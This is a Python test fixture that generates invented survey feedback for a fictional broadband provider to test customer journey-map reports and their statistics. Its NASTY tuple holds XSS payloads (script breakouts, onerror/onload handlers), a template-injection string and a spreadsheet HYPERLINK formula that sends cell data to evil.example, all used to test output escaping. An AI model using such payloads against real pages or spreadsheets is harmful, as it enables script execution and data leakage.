"""A journey map of an invented company, Norrfjord Broadband, with its evidence.

The reports are tested and looked at with this map: about 3,000 mentions, eight stages, scores,
two periods, segments, and texts that a careless page would stumble over. The numbers are counted
from the evidence here, so that a report may be checked against them.
"""

from collections import Counter, defaultdict
from collections.abc import Callable, Iterable, Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from math import sqrt
from statistics import fmean

import numpy as np

from painpoints import surveys
from painpoints.domain import (
    Change,
    Estimate,
    Evidence,
    Finding,
    JourneyMap,
    Score,
    Stage,
    StageView,
    Tally,
    Topic,
)

SCRIPT = "</script><script>window.pwned=1</script>"
IMAGE = "<img src=x onerror=\"window.pwned=2\"><svg onload='window.pwned=3'>"
NASTY = (
    f"My router said {SCRIPT} and then died.",
    f"{IMAGE} is what the installer page showed, three evenings in a row.",
    "التوصيل تأخر أسبوعين ولم يخبرني أحد بأي شيء.",
    "\U0001f621\U0001f621 Two weeks late \U0001f4e6\U0001f937\u200d\u2640\ufe0f and nobody called. \U0001f1f3\U0001f1f4 Never again!",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "{{ constructor.constructor('window.pwned=4')() }} ${window.pwned=5} <!-- <script> \u2028\u2029",
)
LONG_LABEL = (
    "Engineer's visit moved again and again without anybody telling the customer about it "
    "although a whole day off work had been taken and confirmed twice in writing"
)
PERIODS = ("2026-Q1", "2026-Q2")
MIN_PEOPLE = 20
_START = datetime(2026, 1, 1, tzinfo=UTC)
_TURN = datetime(2026, 4, 1, tzinfo=UTC)

STAGES = tuple(
    Stage(name, title, description)
    for name, title, description in (
        ("awareness", "Awareness", "hearing of the brand"),
        ("consideration", "Consideration", "finding out and comparing before deciding"),
        ("purchase", "Purchase", "ordering, contracting, paying for the order"),
        ("delivery", "Delivery", "getting what was ordered"),
        ("onboarding", "Onboarding", "becoming able to use it"),
        ("use", "Use", "using the product or receiving the service"),
        ("support", "Support", "getting help or putting something right"),
        ("loyalty", "Loyalty", "staying, renewing, leaving, recommending"),
    )
)

# fmt: off
# stage, topic, label, touchpoint, type, severity, pull on the score, frequency, texts
_PLANS: tuple[tuple[str, str, str, str, str, int, float, float, tuple[str, ...]], ...] = (
    ("awareness", "t01", "Too many leaflets", "advertising", "pain_point", 1, -0.5, 0.25, ("Your leaflets come every single week",)),
    ("consideration", "t02", "Cannot find out whether fibre reaches my address", "information", "pain_point", 2, -1.5, 4, ("The coverage checker says no although my neighbour has fibre", "I could not find out if fibre reaches my address", "Your address search does not know our street")),
    ("consideration", "t03", "Price after the first year is hard to find", "price", "pain_point", 1, -1.2, 3, ("The price after twelve months is hidden in the small print", "Nobody told me what it costs after the first year")),
    ("consideration", "t04", "Fair prices compared with others", "price", "praise", 0, 1.6, 3.4, ("Cheaper than the two others we looked at", "The price is fair for this speed")),
    ("consideration", "t05", "Compare plans side by side", "website", "request", 1, 0, 2, ("Please let me compare the plans side by side", "A table of all plans would help")),
    ("purchase", "t06", "Card declined at checkout", "payment", "pain_point", 2, -2.1, 3.2, ("My card was declined three times at checkout", "Checkout refused a perfectly good card")),
    ("purchase", "t07", "Ordering takes minutes", "ordering", "praise", 0, 1.5, 4, ("Ordering online took five minutes", "The order form was short and clear")),
    ("purchase", "t08", "Discount code not accepted", "ordering", "pain_point", 1, -1, 1.6, ("The discount code from your mail did not work", "My voucher was refused at the last step")),
    ("delivery", "t09", "Router arrives late", "delivery", "pain_point", 2, -2.6, 8, ("The router came two weeks late", "We waited sixteen days for the router", "Delivery date was moved three times")),
    ("delivery", "t10", LONG_LABEL, "delivery", "pain_point", 3, -3.4, 4.5, ("The engineer did not come and nobody called", "The visit was moved for the third time and I had taken the day off")),
    ("delivery", "t11", "Parcel tracking out of date", "communication", "pain_point", 1, -1, 2.4, ("Tracking said delivered and nothing was there", "The tracking page was a day behind")),
    ("delivery", "t12", "Friendly, tidy engineers", "staff", "praise", 0, 2, 4.2, ("The engineer was friendly and left everything tidy", "Great installer, explained every step")),
    ("delivery", "t13", "Choose an evening slot", "delivery", "request", 1, -0.2, 2, ("Please offer visits in the evening", "I wish I could choose a slot after work")),
    ("onboarding", "t14", "Activation code does not work", "account", "pain_point", 2, -2.2, 5, ("The activation code was rejected all weekend", "I never got a code that works")),
    ("onboarding", "t15", "Instructions unclear", "information", "pain_point", 1, -1.1, 3, ("The instructions leave out the one step that matters", "The booklet shows a router I do not have")),
    ("onboarding", "t16", "Set up in minutes", "product", "praise", 0, 1.8, 4.4, ("Plugged it in and it worked at once", "Setting up took ten minutes")),
    ("use", "t17", "Connection drops in the evening", "product", "pain_point", 3, -3.2, 9, ("The connection drops every evening around eight", "Video calls freeze every night", "Internet is gone for minutes several times each evening")),
    ("use", "t18", "Fast and stable connection", "product", "praise", 0, 2.6, 13, ("Fast and stable, never had an outage", "Speed is what you promised, day and night", "Streaming in three rooms without a hiccup")),
    ("use", "t19", "Bill higher than agreed", "payment", "pain_point", 2, -2.5, 5, ("The bill is higher than what we agreed", "I was charged for a box I sent back", "Every month a new fee on the bill")),
    ("use", "t20", "App signs me out", "app", "pain_point", 1, -0.9, 4, ("The app signs me out every day", "I have to log in to the app again and again")),
    ("use", "t21", "Show usage per device", "app", "request", 0, 0.1, 2.6, ("Please show the usage per device", "I would like to see which device uses the data")),
    ("use", "t22", "Weak Wi-Fi upstairs", "product", "pain_point", 2, -1.4, 3.4, ("Wi-Fi does not reach the bedroom", "Upstairs the signal is hardly there")),
    ("support", "t23", "Long wait on the phone", "customer_service", "pain_point", 2, -2.4, 9, ("I was on hold for an hour", "Fifty minutes of music before anybody answered", "Waited forever on the phone")),
    ("support", "t24", "Passed from one department to the next", "customer_service", "pain_point", 2, -2.8, 5, ("Passed through four departments and back to the first", "Everybody sends me to somebody else")),
    ("support", "t25", "Refund still missing", "returns", "pain_point", 3, -3.3, 3.6, ("Still no refund after two months", "You owe me the deposit since March")),
    ("support", "t26", "Helpful people once they answer", "customer_service", "praise", 0, 1.7, 6, ("The lady on the phone solved it in minutes", "Once I got through they were really helpful")),
    ("support", "t27", "Call me back instead", "customer_service", "request", 1, -0.6, 2.8, ("Please offer a call back", "Let me leave my number instead of waiting")),
    ("loyalty", "t28", "New customers pay less than loyal ones", "price", "pain_point", 2, -2.2, 3.4, ("New customers pay half of what I pay after nine years", "Loyalty is punished, the offers are only for new customers")),
    ("loyalty", "t29", "Would recommend to neighbours", "general", "praise", 0, 2.8, 4, ("I have already recommended you to two neighbours", "Happy to recommend you to anybody on our road")),
    ("loyalty", "t30", "Cancelling takes three calls", "policy", "pain_point", 2, -2.9, 1.2, ("It took three calls to cancel", "You make it hard to leave")),
    ("none", "", "", "general", "other", 0, 0, 4, ("Thanks", "That is all", "No further comment")),
)
# fmt: on
_OPENERS = ("", "Honestly, ", "To be frank: ", "For us, ", "Since spring: ", "Again: ")
_LINKS = (". ", ", but ", ", and ", "; ")
_SENTIMENT = {
    "pain_point": "negative",
    "praise": "positive",
    "request": "neutral",
    "other": "neutral",
}
_PLANS_OF = ("Basic", "Family", "Pro")
_REGIONS = ("Fjord", "Islands", "Inland", "Town")
_CHANNELS = ("app", "web", "phone", "chat", "store")


def evidence(n_feedback: int = 2000, *, seed: int = 7) -> tuple[Evidence, ...]:
    """Return the mentions of `n_feedback` invented answers, the nasty ones among the first."""
    rng = np.random.default_rng(seed)
    weights = np.array([plan[7] for plan in _PLANS])
    rows: list[Evidence] = []
    for number in range(n_feedback):
        rows += _answer(rng, number, weights / weights.sum())
    return tuple(rows)


def _answer(rng: np.random.Generator, number: int, weights: np.ndarray) -> list[Evidence]:
    moment = _START + timedelta(days=float(rng.uniform(0, 181)))
    grown = weights * np.array([_growth(plan[1], late=moment >= _TURN) for plan in _PLANS])
    n = int(rng.choice([1, 2, 3], p=[0.55, 0.35, 0.1]))
    chosen = rng.choice(len(_PLANS), size=n, replace=False, p=grown / grown.sum())
    plans = [_PLANS[int(index)] for index in chosen]
    verbatim, spans = _written(rng, number, plans)
    mood = 7.6 + sum(plan[6] for plan in plans) + rng.normal(0, 1.3)
    shared = {
        "feedback_id": f"NF-{number + 1:05d}",
        "person": f"person-{int(rng.integers(0, 1700)):04d}",
        "verbatim": verbatim,
        "source": "relationship-survey-2026.xlsx (Qualtrics)",
        "channel": str(rng.choice(_CHANNELS, p=[0.3, 0.3, 0.2, 0.12, 0.08])),
        "survey": "nps",
        "row": number + 2,
        "score": None if rng.random() < 0.06 else float(np.clip(round(mood), 0, 10)),
        "score_max": 10.0,
        "created_at": moment,
        "question": "What is the main reason for your score?",
        "segments": {
            "plan": str(rng.choice(_PLANS_OF, p=[0.5, 0.35, 0.15])),
            "region": str(rng.choice(_REGIONS)),
        },
    }
    return [
        Evidence(
            mention_id=f"NF-{number + 1:05d}#{i + 1}",
            start=start,
            end=end,
            stage=plan[0],
            stage_source="metadata" if rng.random() < 0.15 else "text",
            touchpoint=plan[3],
            sentiment=_SENTIMENT[plan[4]],
            type=plan[4],
            severity=int(
                np.clip(
                    plan[5] + rng.choice([-1, 0, 0, 1]),
                    0 if plan[5] == 0 else 1,
                    3 if plan[5] else 0,
                )
            ),
            topic_id=plan[1] or None,
            **shared,
        )
        for i, (plan, (start, end)) in enumerate(zip(plans, spans, strict=True))
    ]


def _growth(topic: str, *, late: bool) -> float:
    return {"t09": 2.6, "t20": 2.2, "t14": 0.45, "t23": 1.25}.get(topic, 1.0) if late else 1.0


def _written(
    rng: np.random.Generator, number: int, plans: Sequence[tuple[object, ...]]
) -> tuple[str, list[tuple[int, int]]]:
    text, spans = str(rng.choice(_OPENERS)), []
    if number % 97 == 3:
        text = "\U0001f643\U0001f4e6 " + text
    for i, plan in enumerate(plans):
        said = _said(rng, number, i, plan[8])
        text += str(rng.choice(_LINKS)) if i else ""
        spans.append((len(text), len(text) + len(said)))
        text += said
    if number == 11:
        text += ". " + " ".join(
            f"And on day {day} we rang again and heard the same." for day in range(1, 67)
        )
    return text + ".", spans


def _said(rng: np.random.Generator, number: int, i: int, texts: object) -> str:
    if i == 0 and number < len(NASTY):
        return NASTY[number]
    assert isinstance(texts, tuple)
    said = str(rng.choice(texts))
    tail = ("", "", " this month", " once more", " for weeks now", " at our house", " as before")
    return said + str(rng.choice(tail))


def sample(n_feedback: int = 2000, *, seed: int = 7) -> tuple[JourneyMap, tuple[Evidence, ...]]:
    """Return the map and all of its evidence, the counts reconciled."""
    rows = evidence(n_feedback, seed=seed)
    return counted(rows), rows


def counted(rows: Sequence[Evidence], stages: Sequence[Stage] = STAGES) -> JourneyMap:
    """Arrange `rows` as a map: plain counting, a stand-in for the engine's own steps."""
    moments = [row.created_at for row in rows if row.created_at]
    elsewhere = Counter(row.stage for row in rows if row.stage in {"none", "unsure"})
    return JourneyMap(
        title="Norrfjord Broadband: what customers tell us",
        first_at=min(moments, default=None),
        last_at=max(moments, default=None),
        period=PERIODS[1] if rows else None,
        previous_period=PERIODS[0] if rows else None,
        n_feedback=len({row.feedback_id for row in rows}),
        n_people=len({row.person for row in rows}),
        n_mentions=len(rows),
        people_known=True,
        min_people=MIN_PEOPLE,
        scores=_scores(rows),
        stages=tuple(
            _view(stage, [r for r in rows if r.stage == stage.name], rows) for stage in stages
        ),
        topics=_topics(rows),
        no_stage=dict(elsewhere),
        left_out={"empty": 212, "no_answer": 61, "language": 34, "too_short": 9, "novel": 18}
        if rows
        else {},
        filters={
            "channel": tuple(sorted({row.channel for row in rows if row.channel})),
            "plan": _PLANS_OF,
            "region": _REGIONS,
        }
        if rows
        else {},
        conventions=_CONVENTIONS,
    )


_CONVENTIONS = {
    "people": "Distinct people, by the export's person column; one person counts once per stage.",
    "net sentiment": "Share of people who speak well of a stage minus share who speak ill of it.",
    "NPS": "Share of 9-10 minus share of 0-6, -100 to 100; adjusted-Wald 95 % interval.",
    "impact": "NPS of all minus NPS without the people who tell of it, in points.",
    "severity": "Mean over the pain mentions: 1 minor, 2 major, 3 critical.",
    "rank": "By priority; the range holds the rank in 95 % of 200 bootstrap samples.",
}


def _topics(rows: Sequence[Evidence]) -> tuple[Topic, ...]:
    ids: dict[str, list[str]] = defaultdict(list)
    for row in rows:
        if row.topic_id:
            ids[row.topic_id].append(row.mention_id)
    return tuple(
        Topic(
            plan[1],
            None,
            plan[2],
            ("router", "late", "wait"),
            tuple(ids[plan[1]][:3]),
            len(ids[plan[1]]),
            "kept",
        )
        for plan in _PLANS
        if plan[1] in ids
    )


def _view(stage: Stage, rows: list[Evidence], everything: Sequence[Evidence]) -> StageView:
    people = {row.person for row in rows}
    findings = [
        f
        for f in (
            _finding(stage, plan, rows, everything) for plan in _PLANS if plan[0] == stage.name
        )
        if f
    ]
    small = len(people) < MIN_PEOPLE
    rankable = [f for f in findings if not small and f.reach >= MIN_PEOPLE]
    return StageView(
        stage=stage,
        n_people=len(people),
        n_mentions=len(rows),
        share=wilson(len(people), len({row.person for row in everything})),
        net_sentiment=net_sentiment(rows),
        scores=_scores(rows),
        pain_points=_ranked(f for f in rankable if f.kind == "pain_point"),
        opportunities=_ranked(f for f in rankable if f.kind == "opportunity"),
        listed_apart=tuple(
            replace(f, rank=None, rank_low=None, rank_high=None)
            for f in findings
            if f not in rankable
        ),
        touchpoints=_tallies(rows, lambda row: row.touchpoint),
        channels=_tallies(rows, lambda row: row.channel),
        change=_change(rows, everything) if rows else None,
        small=small,
    )


def _ranked(findings: Iterable[Finding]) -> tuple[Finding, ...]:
    ordered = sorted(findings, key=lambda f: -f.priority)
    return tuple(
        replace(f, rank=i, rank_low=max(1, i - i // 2), rank_high=min(len(ordered), i + 1))
        for i, f in enumerate(ordered, 1)
    )


def _finding(
    stage: Stage, plan: tuple[object, ...], rows: list[Evidence], everything: Sequence[Evidence]
) -> Finding | None:
    about = [row for row in rows if row.topic_id == plan[1]]
    if not about:
        return None
    reach = len({row.person for row in about})
    impact = _impact({row.feedback_id for row in about}, everything)
    severity = fmean(row.severity for row in about)
    kind = {"pain_point": None, "praise": "extend_delight", "request": "asked_for"}[str(plan[4])]
    value = abs(impact.value or 0.0)
    return Finding(
        finding_id=f"{'opportunity' if kind else 'pain_point'}:{stage.name}:{plan[1]}",
        kind="opportunity" if kind else "pain_point",
        opportunity=kind,
        stage=stage.name,
        touchpoint=str(plan[3]),
        topic_id=str(plan[1]),
        label=str(plan[2]),
        reach=reach,
        share=wilson(reach, len({row.person for row in rows})),
        n_mentions=len(about),
        severity=severity,
        impact=impact,
        impact_survey="nps",
        weight=Estimate(
            -0.03 if kind is None else 0.02,
            -0.05 if kind is None else 0.0,
            -0.01 if kind is None else 0.05,
            impact.n,
        ),
        agree=plan[1] != "t22",
        feasibility=4.0 if plan[1] == "t23" else None,
        priority=reach * (severity or 1) * value,
        priority_formula=f"reach {reach} x severity {severity:.2f} x impact {value:.2f} = {reach * (severity or 1) * value:.0f}",
        rank=1,
        rank_low=1,
        rank_high=1,
        trend=_change(about, rows),
        evidence_ids=tuple(
            row.mention_id for row in sorted(about, key=lambda r: (-r.severity, r.mention_id))
        ),
    )


def _change(rows: Sequence[Evidence], among: Sequence[Evidence]) -> Change:
    before, now = _share(rows, among, late=False), _share(rows, among, late=True)
    ratio = now / before if before else 9.0
    verdict = "rising" if ratio > 1.3 else "falling" if ratio < 0.6 else "unchanged"
    if len(rows) < 20:
        verdict = "too_few"
    return Change(
        before,
        now,
        0.003 if verdict in {"rising", "falling"} else 0.41,
        "exact conditional Poisson",
        verdict,
    )


def _share(rows: Sequence[Evidence], among: Sequence[Evidence], *, late: bool) -> float:
    def inside(row: Evidence) -> bool:
        return row.created_at is not None and (row.created_at >= _TURN) == late

    whole = {row.person for row in among if inside(row)}
    return len({row.person for row in rows if inside(row)}) / max(1, len(whole))


def _tallies(
    rows: Sequence[Evidence], name_of: Callable[[Evidence], str | None]
) -> tuple[Tally, ...]:
    groups: dict[str, list[Evidence]] = defaultdict(list)
    for row in rows:
        groups[name_of(row) or "unknown"].append(row)
    return tuple(
        Tally(name, len(group), len({row.person for row in group}), net_sentiment(group))
        for name, group in sorted(groups.items(), key=lambda item: (-len(item[1]), item[0]))
    )


def _scores(rows: Sequence[Evidence]) -> tuple[Score, ...]:
    answers = {row.feedback_id: row for row in rows if row.score is not None}.values()
    people = {row.person for row in answers}
    measure = surveys.headline("nps")
    if not people or measure is None:
        return ()
    up = sum((row.score or 0) >= 9 for row in answers)
    down = sum((row.score or 0) <= 6 for row in answers)
    estimate = replace(trinomial(up, down, len(answers), scale=100), n=len(people))
    return (Score("nps", estimate, measure.convention, measure.name, -100, 100),)


def _impact(about: set[str], everything: Sequence[Evidence]) -> Estimate:
    scored = {row.feedback_id: row.score for row in everything if row.score is not None}
    told = [scored[key] for key in about if key in scored]
    other = [score for key, score in scored.items() if key not in about]
    if not told or not other:
        return Estimate(None, None, None, len(told))
    value = len(told) / len(scored) * (_nps(told) - _nps(other))
    spread = 1.96 * len(told) / len(scored) * 100 * sqrt(0.7 / len(told) + 0.7 / len(other))
    return Estimate(value, value - spread, value + spread, len(told))


def _nps(scores: Sequence[float]) -> float:
    return 100 * fmean((score >= 9) - (score <= 6) for score in scores)


def net_sentiment(rows: Sequence[Evidence]) -> Estimate:
    """Return the share of people positive minus the share negative, each by their balance."""
    moods: Counter[str] = Counter()
    for row in rows:
        moods[row.person] += {"positive": 1, "negative": -1}.get(row.sentiment, 0)
    return trinomial(
        sum(m > 0 for m in moods.values()), sum(m < 0 for m in moods.values()), len(moods), scale=1
    )


def wilson(k: int, n: int) -> Estimate:
    """Return the share k / n with its Wilson interval."""
    if n == 0:
        return Estimate(None, None, None, 0)
    p, z = k / n, 1.959964
    middle, half = p + z * z / 2 / n, z * sqrt(p * (1 - p) / n + z * z / 4 / n / n)
    return Estimate(p, (middle - half) / (1 + z * z / n), (middle + half) / (1 + z * z / n), n)


def trinomial(up: int, down: int, n: int, *, scale: float) -> Estimate:
    """Return (up - down) / n with its adjusted-Wald interval, times `scale`."""
    if n == 0:
        return Estimate(None, None, None, 0)
    p, d = (up + 0.75) / (n + 3), (down + 0.75) / (n + 3)
    half = 1.959964 * sqrt((p + d - (p - d) ** 2) / (n + 3))
    low, high = max(-1.0, p - d - half), min(1.0, p - d + half)
    return Estimate(scale * (up - down) / n, scale * low, scale * high, n)
